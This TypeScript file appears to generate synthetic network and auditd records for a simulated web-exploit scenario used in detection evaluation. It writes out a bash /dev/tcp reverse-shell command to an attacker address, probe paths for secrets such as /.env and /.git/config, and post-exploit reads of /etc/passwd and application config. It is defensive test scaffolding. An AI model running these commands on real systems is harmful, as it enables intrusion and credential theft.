// Scenario "web-exploit": an internet host probes the Java application on web01:8080, sends
// one exploit request, and the app — running as www-data (uid 33) — spawns `/bin/sh -c …` and
// a `bash -i >& /dev/tcp/IP/443` reverse shell. The network sees requests and one long
// outbound connection; auditd sees the www-data execve chain and its connect().

import type { TruthStepDraft } from '../eval/truth';
import { exec } from './actions';
import { connectEvent, UNSET } from './audit-format';
import { type Ctx, ephemeralPort, tcpSession } from './ctx';
import type { Rng } from './prng';
import { iso } from './time-format';
import { type Host, hostOf } from './world';

const S = 1_000;
const MIN = 60_000;
const WWW = 33;
const PROBES = [
  '/manager/html',
  '/.env',
  '/actuator/env',
  '/actuator/health',
  '/api/v1/users',
  '/console',
  '/admin',
  '/jolokia',
  '/.git/config',
  '/wp-login.php',
  '/solr/admin/info/system',
  '/api/swagger.json',
];

type Draft = Omit<TruthStepDraft, 'scenario' | 'start' | 'end'> & { start: number; end: number };

function draft(d: Draft): TruthStepDraft {
  return { ...d, scenario: 'web-exploit', start: iso(d.start), end: iso(Math.max(d.start, d.end)) };
}

/** A process of the web application's user: no login session, so auid/ses are unset. */
function asWww(ctx: Ctx, web: Host, t: number, argv: string[], ppid: number, step: string, pid?: number) {
  return exec(ctx, { host: web, t, argv, uid: WWW, auid: UNSET, ses: UNSET, tty: '(none)', ppid, cwd: '/opt/app', step, ...(pid ? { pid } : {}) });
}

export function webExploit(ctx: Ctx, rng: Rng): TruthStepDraft[] {
  const { world } = ctx;
  const atk = world.attackers.webAttacker;
  const web = hostOf(world, 'web01');
  const period = world.endMs - world.startMs;
  const steps: TruthStepDraft[] = [];
  const t0 = world.startMs + Math.floor((period * 0.45) / MIN) * MIN + rng.int(0, 59) * S;

  // Probing: ~30 short requests in two minutes, mostly 404s — content discovery against the app.
  let t = t0;
  const n = rng.int(26, 34);
  for (let i = 0; i < n; i++) {
    const path = PROBES[i % PROBES.length] ?? '/';
    ctx.flow(
      tcpSession({
        t,
        durMs: rng.int(30, 400),
        src: atk,
        sport: ephemeralPort(rng),
        dst: web.ip,
        dport: 8080,
        up: 180 + path.length + rng.int(120, 260),
        down: rng.int(380, 1_100),
        step: 'web-probe',
      }),
    );
    t += rng.int(1_500, 6_000);
  }
  steps.push(
    draft({
      id: 'web-probe',
      stage: 'recon',
      technique: 'T1595.003',
      host: web.name,
      hostIp: web.ip,
      peer: atk,
      start: t0,
      end: t,
      note: `${n} content-discovery requests to :8080 (no web access log in the bundle)`,
    }),
  );

  const te = t + rng.int(40, 90) * S;
  ctx.flow(tcpSession({ t: te, durMs: 1_400, src: atk, sport: ephemeralPort(rng), dst: web.ip, dport: 8080, up: 2_430, down: 312, step: 'web-exploit' }));
  steps.push(
    draft({
      id: 'web-exploit',
      stage: 'delivery',
      technique: 'T1190',
      host: web.name,
      hostIp: web.ip,
      peer: atk,
      start: te,
      end: te + 1_400,
      note: 'one POST carrying a command-injection payload to the Java app on :8080',
    }),
  );

  const java = 1_000 + ((web.index * 97) % 800);
  const rce = te + 600;
  const rceSh = asWww(ctx, web, rce, ['/bin/sh', '-c', 'id;uname -a'], java, 'web-rce');
  asWww(ctx, web, rce + 4, ['id'], rceSh.pid, 'web-rce', rceSh.pid + 1);
  asWww(ctx, web, rce + 9, ['uname', '-a'], rceSh.pid, 'web-rce', rceSh.pid + 2);
  steps.push(
    draft({
      id: 'web-rce',
      stage: 'exploitation',
      technique: 'T1059.004',
      host: web.name,
      hostIp: web.ip,
      peer: atk,
      start: rce,
      end: rce + 9,
      note: 'www-data (euid 33) java spawns /bin/sh -c "id;uname -a"',
    }),
  );

  const tr = te + rng.int(20, 40) * S;
  const revCmd = `bash -i >& /dev/tcp/${atk}/443 0>&1`;
  const sh = asWww(ctx, web, tr, ['/bin/sh', '-c', `bash -c "${revCmd}"`], java, 'web-revshell');
  const outer = asWww(ctx, web, tr + 3, ['bash', '-c', revCmd], sh.pid, 'web-revshell', sh.pid + 1);
  // bash forks, the child opens /dev/tcp (connect, still showing the parent's argv), then execs bash -i.
  const child = { ...outer, pid: outer.pid + 1, ppid: outer.pid };
  ctx.audit(web, tr + 5, connectEvent(child, ['bash', '-c', revCmd], atk, 443), 'web-revshell');
  const bashProc = asWww(ctx, web, tr + 6, ['bash', '-i'], outer.pid, 'web-revshell', child.pid);
  const dur = rng.int(28, 42) * MIN;
  ctx.flow(
    tcpSession({
      t: tr + 5,
      durMs: dur,
      src: web.ip,
      sport: ephemeralPort(rng),
      dst: atk,
      dport: 443,
      up: rng.int(40_000, 90_000),
      down: rng.int(4_000, 9_000),
      step: 'web-revshell',
    }),
  );
  steps.push(
    draft({
      id: 'web-revshell',
      stage: 'c2',
      technique: 'T1095',
      host: web.name,
      hostIp: web.ip,
      peer: atk,
      start: tr,
      end: tr + 7 + dur,
      note: `reverse shell "${revCmd}": raw TCP (not TLS) on 443 for ${Math.round(dur / MIN)} minutes`,
    }),
  );

  let tc = tr + 40 * S;
  let child2 = bashProc.pid + 1;
  const cmds = [
    ['id'],
    ['whoami'],
    ['uname', '-a'],
    ['cat', '/etc/passwd'],
    ['ls', '-la', '/opt/app'],
    ['ps', 'aux'],
    ['cat', '/opt/app/config/application.properties'],
  ];
  for (const argv of cmds) {
    asWww(ctx, web, tc, argv, bashProc.pid, 'web-discovery', Math.max(child2++, ctx.pidAt(web, tc)));
    tc += rng.int(8, 70) * S;
  }
  steps.push(
    draft({
      id: 'web-discovery',
      stage: 'exploitation',
      technique: 'T1082',
      host: web.name,
      hostIp: web.ip,
      peer: atk,
      start: tr + 40 * S,
      end: tc,
      note: 'commands typed in the reverse shell as www-data: id, uname, cat /etc/passwd, ps, app config',
    }),
  );
  return steps;
}
